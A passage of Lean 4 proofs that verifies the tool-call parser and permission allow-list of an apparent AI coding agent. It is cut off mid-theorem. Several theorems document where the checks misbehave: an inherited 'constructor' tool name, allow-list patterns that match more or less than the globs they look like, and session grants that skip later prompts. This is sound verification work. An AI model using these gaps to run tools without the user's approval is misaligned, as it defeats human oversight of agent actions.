theorem parseToolCalls_single_block_witness :
    parseToolCalls (fenceOpen true
        ++ u16 "\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d" ++ fenceClose)
      = [⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩] ∧
    (codeBlockPass (fenceOpen true
        ++ u16 "\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d" ++ fenceClose)
      = [⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩] ∧
      ∃ added : List ToolCall,
        parseToolCalls (fenceOpen true
            ++ u16 "\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d" ++ fenceClose)
          = ⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩ :: added ∧
        ∀ d ∈ added,
          isDuplicate ⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩ d = false) :=
  ⟨by rfl,
    parseToolCalls_single_block true
      (u16 "\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d")
      [(u16 "name", .str (u16 "LSTool")), (u16 "arguments", .obj [(u16 "path", .str (u16 "."))])]
      [(u16 "path", .str (u16 "."))] (u16 "LSTool") (by rfl) (by rfl) (by decide) (by rfl)⟩

/-! ### C2: a directive in a fenced block and inline -/

/-- C2 fails as stated: with the empty string as name the fenced and the inline copy
give no directive at all, and with arguments that hold an object with a `name` and a
non-object `arguments` the two copies give two directives. -/
theorem parseToolCalls_fenced_and_inline_not_one :
    parseToolCalls (u16 ("```json\n\x7b\"name\":\"\",\"arguments\":\x7b\x7d\x7d\n```\n"
        ++ "Again: \x7b\"name\":\"\",\"arguments\":\x7b\x7d\x7d")) = [] ∧
    (parseToolCalls (u16 ("```json\n\x7b\"name\":\"GrepTool\",\"arguments\":\x7b\"opts\":\x7b\x7d,"
        ++ "\"next\":\x7b\"name\":\"LSTool\",\"arguments\":true\x7d\x7d\x7d\n```\n"
        ++ "Again: \x7b\"name\":\"GrepTool\",\"arguments\":\x7b\"opts\":\x7b\x7d,"
        ++ "\"next\":\x7b\"name\":\"LSTool\",\"arguments\":true\x7d\x7d\x7d"))).map
        (fun d => d.name)
      = [.str (u16 "GrepTool"), .str (u16 "LSTool")] :=
  ⟨by rfl, by rfl⟩

/-- C2, amended: for every text made of one fenced code block, whose content parses as a
JSON object with a non-empty string `name` and an object `arguments`, and of free text
before and after it that holds no three backticks in a row (whatever inline JSON
objects it holds, copies of the directive among them), the result of `parseToolCalls`
starts with that directive and no later directive of the result has the same name and
the same serialized arguments: the directive is in the result exactly once. -/
theorem parseToolCalls_fenced_and_inline (pre post content : JsString) (json : Bool)
    (kvs a : List (JsString × Json)) (n : JsString)
    (hpre : ¬ u16 "```" <:+: pre) (hpost : ¬ u16 "```" <:+: post)
    (hparse : JSON.parse (trim content) = some (.obj kvs))
    (hname : lookupProp (u16 "name") kvs = some (.str n)) (hne : n ≠ [])
    (hargs : lookupProp (u16 "arguments") kvs = some (.obj a)) :
    ∃ added : List ToolCall,
      parseToolCalls (pre ++ fenceOpen json ++ content ++ fenceClose ++ post)
        = ⟨.str n, .obj a⟩ :: added ∧
      ∀ d ∈ added, isDuplicate ⟨.str n, .obj a⟩ d = false :=
  (parseToolCalls_block pre post content json kvs a n hpre hpost hparse hname hne hargs).2

/-- Witness of `parseToolCalls_fenced_and_inline`: a fenced directive followed by an inline
copy of it; here the result is that directive alone. -/
theorem parseToolCalls_fenced_and_inline_witness :
    parseToolCalls (u16 "Run this:\n" ++ fenceOpen true
        ++ u16 "\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d" ++ fenceClose
        ++ u16 "\nAgain: \x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d")
      = [⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩] ∧
    ∃ added : List ToolCall,
      parseToolCalls (u16 "Run this:\n" ++ fenceOpen true
          ++ u16 "\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d" ++ fenceClose
          ++ u16 "\nAgain: \x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d")
        = ⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩ :: added ∧
      ∀ d ∈ added,
        isDuplicate ⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩ d = false :=
  ⟨by rfl,
    parseToolCalls_fenced_and_inline (u16 "Run this:\n")
      (u16 "\nAgain: \x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d")
      (u16 "\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d") true
      [(u16 "name", .str (u16 "LSTool")), (u16 "arguments", .obj [(u16 "path", .str (u16 "."))])]
      [(u16 "path", .str (u16 "."))] (u16 "LSTool") (by decide) (by decide) (by rfl) (by rfl)
      (by decide) (by rfl)⟩

/-- An inline copy that the inline pattern does match as a whole (its `arguments` come
first and its name is the word `arguments`) is parsed, found to be a duplicate of the
fenced directive, and not added. -/
theorem parseToolCalls_inline_copy_skipped :
    (inlineMatches (u16 ("```\n\x7b\"name\":\"arguments\",\"arguments\":\x7b\"x\":\"1\"\x7d\x7d\n```\n"
        ++ "\x7b\"arguments\":\x7b\"x\":\"1\"\x7d,\"name\":\"arguments\"\x7d"))).map
        (fun m => (directiveOf m.2).isSome) = [false, true] ∧
    parseToolCalls (u16 ("```\n\x7b\"name\":\"arguments\",\"arguments\":\x7b\"x\":\"1\"\x7d\x7d\n```\n"
        ++ "\x7b\"arguments\":\x7b\"x\":\"1\"\x7d,\"name\":\"arguments\"\x7d"))
      = [⟨.str (u16 "arguments"), .obj [(u16 "x", .str (u16 "1"))]⟩] :=
  ⟨by rfl, by rfl⟩

/-! ### C3: a directive repeated in two fenced blocks -/


/-- C3, evaluated on the code: a text with the same directive in two fenced code blocks
gives that directive twice, although the second is a duplicate of the first by the
test the inline loop applies (same name, same serialized arguments). -/
theorem parseToolCalls_repeats_fenced_duplicate :
    parseToolCalls (u16 ("```json\n\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d\n```\n"
        ++ "```json\n\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d\n```"))
      = [⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩,
         ⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩] ∧
    isDuplicate ⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩
      ⟨.str (u16 "LSTool"), .obj [(u16 "path", .str (u16 "."))]⟩ = true :=
  ⟨by rfl, by rfl⟩

/-! ### C4: order of the result -/

/-- C4 fails as stated: the inline directive at index 0 of this text comes before the
fenced block at index 43, and the result lists the fenced directive first. -/
theorem parseToolCalls_inline_after_fenced :
    parseToolCalls (u16 ("\x7b\"arguments\":\x7b\"x\":\"1\"\x7d,\"name\":\"arguments\"\x7d\n"
        ++ "```\n\x7b\"name\":\"b\",\"arguments\":\x7b\x7d\x7d\n```"))
      = [⟨.str (u16 "b"), .obj []⟩,
         ⟨.str (u16 "arguments"), .obj [(u16 "x", .str (u16 "1"))]⟩] ∧
    (inlineMatches (u16 ("\x7b\"arguments\":\x7b\"x\":\"1\"\x7d,\"name\":\"arguments\"\x7d\n"
        ++ "```\n\x7b\"name\":\"b\",\"arguments\":\x7b\x7d\x7d\n```"))).map Prod.fst = [0, 47] ∧
    (codeBlockMatches (u16 ("\x7b\"arguments\":\x7b\"x\":\"1\"\x7d,\"name\":\"arguments\"\x7d\n"
        ++ "```\n\x7b\"name\":\"b\",\"arguments\":\x7b\x7d\x7d\n```"))).map Prod.fst = [43] :=
  ⟨by rfl, by rfl, by rfl⟩

/-- C4, amended: for every text the result is the directives of the fenced blocks, in
the order of the blocks in the text, followed by the directives the inline loop adds,
in the order of their matches in the text. -/
theorem parseToolCalls_fenced_then_inline (text : JsString) :
    ∃ added : List ToolCall,
      parseToolCalls text
        = (codeBlockMatches text).filterMap (fun m => directiveOf m.2) ++ added ∧
      added.Sublist ((inlineMatches text).filterMap fun m => directiveOf m.2) ∧
      ((codeBlockMatches text).map Prod.fst).Pairwise (· < ·) ∧
      ((inlineMatches text).map Prod.fst).Pairwise (· < ·) := by
  obtain ⟨added, h1, h2, _⟩ := foldl_inlineStep (inlineMatches text) (codeBlockPass text)
  exact ⟨added, h1, h2, (execAll_positions matchCodeBlockAt text 0 0).2,
    (execAll_positions matchInlineAt text 0 0).2⟩

/-! ### C5: an inline directive in free text -/

/-- C5, evaluated on the code: the inline directive of this text is well-formed JSON with
a name and an object of arguments, the match of the inline pattern stops at the first
closing brace after `"arguments"`, which closes the arguments object, and the result
is empty. -/
theorem parseToolCalls_misses_inline_directive :
    parseToolCalls
        (u16 "Please run \x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d now") = [] ∧
    inlineMatches
        (u16 "Please run \x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d now")
      = [(11, u16 "\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d")] ∧
    JSON.parse (u16 "\x7b\"name\":\"LSTool\",\"arguments\":\x7b\"path\":\".\"\x7d\x7d")
      = some (.obj [(u16 "name", .str (u16 "LSTool")),
          (u16 "arguments", .obj [(u16 "path", .str (u16 "."))])]) :=
  ⟨by rfl, by rfl, by rfl⟩

/-! ### C6: what a directive of the result holds -/

/-- C6 fails as stated: a fenced block whose name is the number 1 and whose arguments is
the number 2 is emitted. -/
theorem parseToolCalls_emits_number_name :
    parseToolCalls (u16 "```\n\x7b\"name\":1,\"arguments\":2\x7d\n```")
      = [⟨.num (Num.ofDecimal false 1 0), .num (Num.ofDecimal false 2 0)⟩] := by
  rfl

/-- C6, amended: every directive of the result holds the `name` and the `arguments`
property of a value that `JSON.parse` produced, and both are truthy (not `null`,
`false`, `0` or the empty string; absent properties are never emitted). -/
theorem parseToolCalls_emits_truthy (text : JsString) (d : ToolCall)
    (h : d ∈ parseToolCalls text) :
    d.name.truthy = true ∧ d.arguments.truthy = true ∧
      ∃ content parsed, JSON.parse (trim content) = some parsed ∧
        parsed.get (u16 "name") = some d.name ∧
        parsed.get (u16 "arguments") = some d.arguments := by
  obtain ⟨added, h1, h2, _⟩ := foldl_inlineStep (inlineMatches text) (codeBlockPass text)
  have hsrc : ∃ content, directiveOf content = some d := by
    unfold parseToolCalls at h
    rw [h1] at h
    rcases List.mem_append.mp h with h | h
    · obtain ⟨m, _, hm⟩ := List.mem_filterMap.mp h
      exact ⟨m.2, hm⟩
    · obtain ⟨m, _, hm⟩ := List.mem_filterMap.mp (h2.subset h)
      exact ⟨m.2, hm⟩
  obtain ⟨content, hc⟩ := hsrc
  obtain ⟨parsed, hp, hn, ha, tn, ta⟩ := directiveOf_some hc
  exact ⟨tn, ta, content, parsed, hp, hn, ha⟩

/-- Witness of `parseToolCalls_emits_truthy`: a fenced block with one directive. -/
theorem parseToolCalls_emits_truthy_witness :
    (⟨.str (u16 "LSTool"), .obj []⟩ : ToolCall)
        ∈ parseToolCalls (u16 "```\n\x7b\"name\":\"LSTool\",\"arguments\":\x7b\x7d\x7d\n```") ∧
      ((Json.str (u16 "LSTool")).truthy = true ∧ (Json.obj []).truthy = true ∧
        ∃ content parsed, JSON.parse (trim content) = some parsed ∧
          parsed.get (u16 "name") = some (Json.str (u16 "LSTool")) ∧
          parsed.get (u16 "arguments") = some (Json.obj [])) :=
  have hmem : (⟨.str (u16 "LSTool"), .obj []⟩ : ToolCall)
      ∈ parseToolCalls (u16 "```\n\x7b\"name\":\"LSTool\",\"arguments\":\x7b\x7d\x7d\n```") := by
    have hres : parseToolCalls (u16 "```\n\x7b\"name\":\"LSTool\",\"arguments\":\x7b\x7d\x7d\n```")
        = [⟨.str (u16 "LSTool"), .obj []⟩] := by rfl
    rw [hres]
    exact List.mem_singleton.mpr rfl
  ⟨hmem, parseToolCalls_emits_truthy _ _ hmem⟩

/-! ### C7: names the registry does not define -/

/-- C7, evaluated on the code: `constructor` is none of the eight registered names, and
`toolRegistry["constructor"]` is the inherited `Object.prototype.constructor`, so the
call is not rejected as an unknown tool: it fails in the handler call with the wrapped
error. -/
theorem executeToolCommand_inherited_name
    (handlers : JsString → Json → Except JsString Json) (w : World) (answer : Answer) :
    executeToolCommand handlers w ⟨.str (u16 "constructor"), .obj []⟩ answer
      = (.thrown (.error (u16 "Error executing constructor: tool.handler is not a function")), w) := by
  rfl

/-- The part of C7 that holds: a name that is neither registered nor a property of
`Object.prototype` fails with the unknown-tool error and nothing else happens. -/
theorem executeToolCommand_unknown_tool
    (handlers : JsString → Json → Except JsString Json) (w : World) (args : Json)
    (answer : Answer) (name : JsString)
    (hreg : toolRegistry.lookup name = none) (hproto : objectPrototypeKeys.contains name = false) :
    executeToolCommand handlers w ⟨.str name, args⟩ answer
      = (.thrown (.error (u16 "Unknown tool: " ++ name)), w) := by
  simp only [executeToolCommand, Json.toDisplay, registryLookup, hreg, hproto]
  rfl

/-! ### C8: a permission remembered for the session -/

/-- C8: when a first `checkPermission` is granted with the choice "Just for this
session", a later `checkPermission` with the same tool signature, in any state that
still holds the session permissions of the state after the first call (nothing was
cleared in between), returns `true` and leaves the state as it is, prompt log
included: no prompt is issued. -/
theorem checkPermission_session_remembered (w w1 w2 : World)
    (name1 args1 name2 args2 : Json) (s1 s2 : JsString) (answer : Answer)
    (h1 : name1.toDisplay = some s1) (h2 : name2.toDisplay = some s2)
    (hsig : toolSignature s1 args1 = toolSignature s2 args2)
    (hfirst : checkPermission w name1 args1 ⟨true, .session⟩ = (.returned true, w1))
    (hkeep : ∀ sig ∈ w1.sessionPermissions, sig ∈ w2.sessionPermissions) :
    checkPermission w2 name2 args2 answer = (.returned true, w2) := by
  have hmem1 : toolSignature s2 args2 ∈ w1.sessionPermissions := by
    unfold checkPermission at hfirst
    rw [h1] at hfirst
    by_cases hc : w.sessionPermissions.contains (toolSignature s1 args1) = true
    · simp only [hc, if_true, Prod.mk.injEq, true_and] at hfirst
      rw [← hfirst, ← hsig]
      simpa using hc
    · by_cases hr : (readsArgs name1 && args1.isNull) = true
      · have hc' : toolSignature s1 args1 ∉ w.sessionPermissions := by simpa using hc
        simp [hc', hr] at hfirst
      · simp only [hc, hr, if_true] at hfirst
        simp only [Bool.false_eq_true, if_false] at hfirst
        rw [← (Prod.mk.inj hfirst).2, ← hsig]
        simp
  have hmem : w2.sessionPermissions.contains (toolSignature s2 args2) = true := by
    simpa using hkeep _ hmem1
  unfold checkPermission
  rw [h2]
  simp only [hmem, if_true]

/-- Witness of `checkPermission_session_remembered`: a shell command granted for the
session, asked a second time in the state the first call left. -/
theorem checkPermission_session_remembered_witness :
    checkPermission ⟨[u16 "BashTool(\x7b\"command\":\"ls\"\x7d)"], none, [],
          [.prompt (u16 "BashTool(\x7b\"command\":\"ls\"\x7d)")]⟩
        (.str (u16 "BashTool")) (.obj [(u16 "command", .str (u16 "ls"))]) ⟨false, .none⟩
      = (.returned true, ⟨[u16 "BashTool(\x7b\"command\":\"ls\"\x7d)"], none, [],
          [.prompt (u16 "BashTool(\x7b\"command\":\"ls\"\x7d)")]⟩) :=
  checkPermission_session_remembered ⟨[], none, [], []⟩ _ _
    (.str (u16 "BashTool")) (.obj [(u16 "command", .str (u16 "ls"))])
    (.str (u16 "BashTool")) (.obj [(u16 "command", .str (u16 "ls"))])
    (u16 "BashTool") (u16 "BashTool") ⟨false, .none⟩ rfl rfl rfl (by rfl) (fun _ h => h)

/-! ### Matches of the compiled wildcard pattern -/

theorem mem_dedupPositions (x : Nat) (l : List Nat) : x ∈ dedupPositions l ↔ x ∈ l := by
  induction l with
  | nil => simp [dedupPositions]
  | cons y ys ih =>
    simp only [dedupPositions]
    split
    · rename_i hc
      have hy : y ∈ ys := by simpa using hc
      rw [ih, List.mem_cons]
      constructor
      · exact Or.inr
      · rintro (rfl | h)
        · exact hy
        · exact h
    · simp [ih]

theorem mem_ends_seq (inp : JsString) (a b : Regex) (i j k : Nat)
    (hj : j ∈ a.ends inp i) (hk : k ∈ b.ends inp j) : k ∈ (Regex.seq a b).ends inp i := by
  simp only [Regex.ends, mem_dedupPositions, List.mem_flatMap]
  exact ⟨j, hj, hk⟩

theorem mem_ends_char (inp : JsString) (c i : Nat) (h : inp[i]? = some c) :
    i + 1 ∈ (Regex.char c).ends inp i := by
  simp [Regex.ends, h]

theorem mem_iterateUpTo (step : Nat → List Nat) :
    ∀ (fuel : Nat) (from_ : List Nat) (j d : Nat), j ∈ from_ → d < fuel →
      (∀ t, t < d → j + t + 1 ∈ step (j + t)) →
      j + d ∈ iterateUpTo step fuel none from_ := by
  intro fuel
  induction fuel with
  | zero => intro from_ j d _ hd; omega
  | succ fuel ih =>
    intro from_ j d hj hd hstep
    have hne : from_.isEmpty = false := by
      cases from_ with
      | nil => simp at hj
      | cons => rfl
    simp only [iterateUpTo, hne, Bool.false_eq_true, if_false, Option.map_none', reduceCtorEq]
    cases d with
    | zero => exact List.mem_append_left _ hj
    | succ d =>
      apply List.mem_append_right
      have hnext : j + 1 ∈ dedupPositions
          (from_.flatMap fun i => (step i).filter fun k => decide (i < k)) := by
        rw [mem_dedupPositions, List.mem_flatMap]
        refine ⟨j, hj, ?_⟩
        rw [List.mem_filter]
        exact ⟨by simpa using hstep 0 (by omega), by simp⟩
      have := ih _ (j + 1) d hnext (by omega) (fun t ht => by
        have := hstep (t + 1) (by omega)
        have e1 : j + 1 + t = j + (t + 1) := by omega
        rw [e1]
        exact this)
      have e2 : j + (d + 1) = j + 1 + d := by omega
      rw [e2]
      exact this

theorem mem_ends_star_any (inp : JsString) (i : Nat) (hi : i ≤ inp.length)
    (h : ∀ t, i ≤ t → t < inp.length → ∃ c, inp[t]? = some c ∧ isLineTerminator c = false) :
    inp.length ∈ (Regex.rep 0 none Regex.any).ends inp i := by
  simp only [Regex.ends, mem_dedupPositions, repEnds, iterateExactly, Option.map_none']
  have := mem_iterateUpTo (fun j => Regex.any.ends inp j) (inp.length + 1) [i] i
    (inp.length - i) (by simp) (by omega) (fun t ht => by
      obtain ⟨c, hc, hlt⟩ := h (i + t) (by omega) (by omega)
      simp [Regex.ends, hc, hlt])
  have e : i + (inp.length - i) = inp.length := by omega
  rw [e] at this
  exact this

theorem compile_bashTool_wildcard :
    RegExp.compile (94 :: (wildcardToRegexSource (u16 "BashTool(*)") ++ [36]))
      = .ok (.seq .bol (.seq (.char 66) (.seq (.char 97) (.seq (.char 115) (.seq (.char 104)
          (.seq (.char 84) (.seq (.char 111) (.seq (.char 111) (.seq (.char 108)
            (.seq (.seq (.rep 0 none .any) .empty) (.seq .eol .empty))))))))))) := by
  rfl

theorem bashTool_wildcard_test (rest : JsString)
    (h : ∀ c ∈ rest, isLineTerminator c = false) :
    Regex.test (.seq .bol (.seq (.char 66) (.seq (.char 97) (.seq (.char 115) (.seq (.char 104)
        (.seq (.char 84) (.seq (.char 111) (.seq (.char 111) (.seq (.char 108)
          (.seq (.seq (.rep 0 none .any) .empty) (.seq .eol .empty)))))))))))
      (u16 "BashTool" ++ rest) = true := by
  have hu : u16 "BashTool" = [66, 97, 115, 104, 84, 111, 111, 108] := by rfl
  rw [hu]
  generalize hinp : [66, 97, 115, 104, 84, 111, 111, 108] ++ rest = inp
  have hlen : inp.length = 8 + rest.length := by rw [← hinp]; simp; omega
  have hget : ∀ t, 8 ≤ t → t < inp.length →
      ∃ c, inp[t]? = some c ∧ isLineTerminator c = false := by
    intro t h8 ht
    obtain ⟨k, rfl⟩ : ∃ k, t = 8 + k := ⟨t - 8, by omega⟩
    have hk : k < rest.length := by omega
    refine ⟨rest[k], ?_, h _ (List.getElem_mem _)⟩
    rw [← hinp, List.getElem?_append_right (by simp)]
    simp [hk]
  have hend : inp.length ∈ (Regex.seq (.seq (.rep 0 none .any) .empty)
      (.seq .eol .empty)).ends inp 8 := by
    refine mem_ends_seq inp _ _ 8 inp.length inp.length ?_ ?_
    · exact mem_ends_seq inp _ _ 8 inp.length inp.length
        (mem_ends_star_any inp 8 (by omega) hget) (by simp [Regex.ends])
    · exact mem_ends_seq inp _ _ inp.length inp.length inp.length (by simp [Regex.ends])
        (by simp [Regex.ends])
  have hall : inp.length ∈ (Regex.seq .bol (.seq (.char 66) (.seq (.char 97) (.seq (.char 115)
      (.seq (.char 104) (.seq (.char 84) (.seq (.char 111) (.seq (.char 111) (.seq (.char 108)
        (.seq (.seq (.rep 0 none .any) .empty) (.seq .eol .empty))))))))))).ends inp 0 := by
    refine mem_ends_seq inp _ _ 0 0 _ (by simp [Regex.ends]) ?_
    refine mem_ends_seq inp _ _ 0 1 _ (mem_ends_char inp 66 0 (by rw [← hinp]; simp)) ?_
    refine mem_ends_seq inp _ _ 1 2 _ (mem_ends_char inp 97 1 (by rw [← hinp]; simp)) ?_
    refine mem_ends_seq inp _ _ 2 3 _ (mem_ends_char inp 115 2 (by rw [← hinp]; simp)) ?_
    refine mem_ends_seq inp _ _ 3 4 _ (mem_ends_char inp 104 3 (by rw [← hinp]; simp)) ?_
    refine mem_ends_seq inp _ _ 4 5 _ (mem_ends_char inp 84 4 (by rw [← hinp]; simp)) ?_
    refine mem_ends_seq inp _ _ 5 6 _ (mem_ends_char inp 111 5 (by rw [← hinp]; simp)) ?_
    refine mem_ends_seq inp _ _ 6 7 _ (mem_ends_char inp 111 6 (by rw [← hinp]; simp)) ?_
    exact mem_ends_seq inp _ _ 7 8 _ (mem_ends_char inp 108 7 (by rw [← hinp]; simp)) hend
  unfold Regex.test
  rw [List.any_eq_true]
  refine ⟨0, by simp, ?_⟩
  cases hends : Regex.ends inp _ 0 with
  | nil => rw [hends] at hall; simp at hall
  | cons => rfl

/-! ### C9: the pattern `BashTool(*)` -/

/-- C9, evaluated on the code: with `BashTool(*)` in the allow-list, a shell command whose
text holds the line separator U+2028 is not authorized by the pattern: the user is
prompted, and on a denial the call fails. `JSON.stringify` leaves U+2028 as it is and
`.` in the compiled `^BashTool(.*)$` does not match it. -/
theorem executeToolCommand_wildcard_line_separator
    (handlers : JsString → Json → Except JsString Json) :
    executeToolCommand handlers ⟨[], none, [u16 "BashTool(*)"], []⟩
        ⟨.str (u16 "BashTool"), .obj [(u16 "command", .str (u16 "echo a\u2028b"))]⟩
        ⟨false, .none⟩
      = (.thrown (.error (u16 "Permission denied for BashTool")),
          ⟨[], none, [u16 "BashTool(*)"],
            [.readAllowList, .prompt (u16 "BashTool(\x7b\"command\":\"echo a\u2028b\"\x7d)")]⟩) := by
  rfl

/-- The part of C9 that holds: when `BashTool(*)` is the first entry of the allow-list
and the serialized arguments hold no line terminator (`JSON.stringify` escapes line feed
and carriage return, so only U+2028 and U+2029 can occur), the shell command is
authorized without a prompt: the handler is called right after the allow-list is read. -/
theorem executeToolCommand_wildcard_authorizes
    (handlers : JsString → Json → Except JsString Json) (w : World) (args : Json)
    (answer : Answer) (others : List JsString)
    (hlist : getConfig w = u16 "BashTool(*)" :: others)
    (hargs : ∀ c ∈ JSON.stringify args, isLineTerminator c = false) :
    executeToolCommand handlers w ⟨.str (u16 "BashTool"), args⟩ answer
      = runHandler handlers { w with trace := w.trace ++ [Event.readAllowList] }
          (u16 "BashTool") (.tool true) args := by
  have hsig : isAlreadyAllowed (toolSignature (u16 "BashTool") args)
      (u16 "BashTool(*)" :: others) = .returned true := by
    have hinc : includes (u16 "BashTool(*)") [42] = true := by rfl
    simp only [isAlreadyAllowed, hinc, if_true, compile_bashTool_wildcard]
    have htest := bashTool_wildcard_test (40 :: (JSON.stringify args ++ [41])) (by
      intro c hc
      rcases List.mem_cons.mp hc with rfl | hc
      · rfl
      · rcases List.mem_append.mp hc with hc | hc
        · exact hargs c hc
        · rw [List.mem_singleton.mp hc]; rfl)
    unfold toolSignature
    rw [htest]
    rfl
  have hreg : registryLookup (u16 "BashTool") = .tool true := by rfl
  have hcfg : getConfig { w with trace := w.trace ++ [Event.readAllowList] }
      = u16 "BashTool(*)" :: others := hlist
  simp only [executeToolCommand, Json.toDisplay, hreg, hcfg, hsig]

/-! ### C10: stored patterns and globs -/

/-- C10, evaluated on the code: the stored pattern `GitTool({"operation":"status"*)` is a
glob that matches the signature of `git status`, yet it does not authorize that
signature, because `(` and `)` open and close a group in the compiled pattern; and the
stored pattern `*a.txt*` authorizes a signature that does not contain `a.txt`, because
`.` matches any character. -/
theorem isAlreadyAllowed_differs_from_glob :
    (specGlobMatches (u16 "GitTool(\x7b\"operation\":\"status\"*)")
        (toolSignature (u16 "GitTool") (.obj [(u16 "operation", .str (u16 "status"))])) = true ∧
      isAlreadyAllowed
        (toolSignature (u16 "GitTool") (.obj [(u16 "operation", .str (u16 "status"))]))
        [u16 "GitTool(\x7b\"operation\":\"status\"*)"] = .returned false) ∧
    (specGlobMatches (u16 "*a.txt*")
        (toolSignature (u16 "FileWriteTool")
          (.obj [(u16 "path", .str (u16 "aXtxt")), (u16 "content", .str [])])) = false ∧
      isAlreadyAllowed
        (toolSignature (u16 "FileWriteTool")
          (.obj [(u16 "path", .str (u16 "aXtxt")), (u16 "content", .str [])]))
        [u16 "*a.txt*"] = .returned true) :=
  ⟨⟨by rfl, by rfl⟩, ⟨by rfl, by rfl⟩⟩

/-! ### First occurrence of a text -/

theorem stripPrefix_append (p r : JsString) : stripPrefix p (p ++ r) = some r := by
  induction p with
  | nil => rfl
  | cons c cs ih => simp [stripPrefix, ih]

theorem findSub_eq {pat : JsString} :
    ∀ {s p r : JsString}, findSub pat s = some (p, r) → s = p ++ pat ++ r := by
  intro s
  induction s with
  | nil =>
    intro p r h
    simp only [findSub, Option.map_eq_some'] at h
    obtain ⟨r', hr', he⟩ := h
    have := stripPrefix_eq hr'
    simp only [Prod.mk.injEq] at he
    rw [← he.1, ← he.2]
    simpa using this
  | cons c cs ih =>
    intro p r h
    simp only [findSub] at h
    cases hsp : stripPrefix pat (c :: cs) with
    | some r' =>
      rw [hsp] at h
      simp only [Option.some.injEq, Prod.mk.injEq] at h
      rw [← h.1, ← h.2]
      simpa using stripPrefix_eq hsp
    | none =>
      rw [hsp] at h
      simp only [Option.map_eq_some'] at h
      obtain ⟨⟨p', r'⟩, hf, he⟩ := h
      simp only [Prod.mk.injEq] at he
      rw [← he.1, ← he.2, ih hf]
      simp

theorem findSub_none {pat : JsString} :
    ∀ {s : JsString}, findSub pat s = none → ¬ pat <:+: s := by
  intro s
  induction s with
  | nil =>
    intro h hinf
    have hp : pat = [] := by simpa using hinf
    subst hp
    simp [findSub, stripPrefix] at h
  | cons c cs ih =>
    intro h hinf
    simp only [findSub] at h
    cases hsp : stripPrefix pat (c :: cs) with
    | some r' => rw [hsp] at h; simp at h
    | none =>
      rw [hsp] at h
      simp only [Option.map_eq_none'] at h
      rcases List.infix_cons_iff.mp hinf with hpre | htail
      · obtain ⟨t, ht⟩ := hpre
        rw [← ht, stripPrefix_append] at hsp
        simp at hsp
      · exact ih h htail

theorem includes_iff (s pat : JsString) : includes s pat = true ↔ pat <:+: s := by
  unfold includes
  constructor
  · intro h
    cases hf : findSub pat s with
    | none => rw [hf] at h; simp at h
    | some pr =>
      obtain ⟨p, r⟩ := pr
      exact ⟨p, r, (findSub_eq hf).symm⟩
  · intro h
    cases hf : findSub pat s with
    | none => exact absurd h (findSub_none hf)
    | some pr => rfl

theorem includes_unit (s : JsString) (c : Nat) : includes s [c] = true ↔ c ∈ s := by
  rw [includes_iff]
  constructor
  · rintro ⟨p, r, h⟩
    rw [← h]; simp
  · intro h
    obtain ⟨a, b, hab⟩ := List.append_of_mem h
    exact ⟨a, b, by rw [hab]; simp⟩

/-- The text before the first occurrence is the shortest one before any occurrence. -/
theorem findSub_shortest {pat : JsString} :
    ∀ {s p r : JsString}, findSub pat s = some (p, r) →
      ∀ p' r' : JsString, s = p' ++ pat ++ r' → p.length ≤ p'.length := by
  intro s
  induction s with
  | nil =>
    intro p r h p' r' _
    simp only [findSub, Option.map_eq_some'] at h
    obtain ⟨r0, _, he⟩ := h
    simp only [Prod.mk.injEq] at he
    rw [← he.1]; simp
  | cons c cs ih =>
    intro p r h p' r' hs
    simp only [findSub] at h
    cases hsp : stripPrefix pat (c :: cs) with
    | some r0 =>
      rw [hsp] at h
      simp only [Option.some.injEq, Prod.mk.injEq] at h
      rw [← h.1]; simp
    | none =>
      rw [hsp] at h
      simp only [Option.map_eq_some'] at h
      obtain ⟨⟨p0, r0⟩, hf, he⟩ := h
      simp only [Prod.mk.injEq] at he
      cases p' with
      | nil =>
        rw [hs] at hsp
        simp only [List.nil_append] at hsp
        rw [stripPrefix_append] at hsp
        simp at hsp
      | cons d p'' =>
        simp only [List.cons_append, List.cons.injEq] at hs
        have := ih hf p'' r' hs.2
        rw [← he.1]
        simp only [List.length_cons]
        omega

theorem get_isNull {args v : Json} {k : JsString} (h : args.get k = some v) :
    args.isNull = false := by
  cases args <;> first | rfl | simp [Json.get] at h

/-! ### `fileEditTool` up to the edit -/

/-- Once the argument checks pass and the file is read, `fileEditTool` is the edit of the
content followed by the write. -/
theorem fileEditTool_after_read {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (d : Disk σ)
    (args : Json) (p content : JsString)
    (hpath : args.get (u16 "path") = some (.str p)) (hp : p ≠ [])
    (hmode : ((!truthyOpt (args.get (u16 "oldContent")) && (args.get (u16 "startLine")).isNone) ||
      (!truthyOpt (args.get (u16 "newContent")) && (args.get (u16 "startLine")).isNone)) = false)
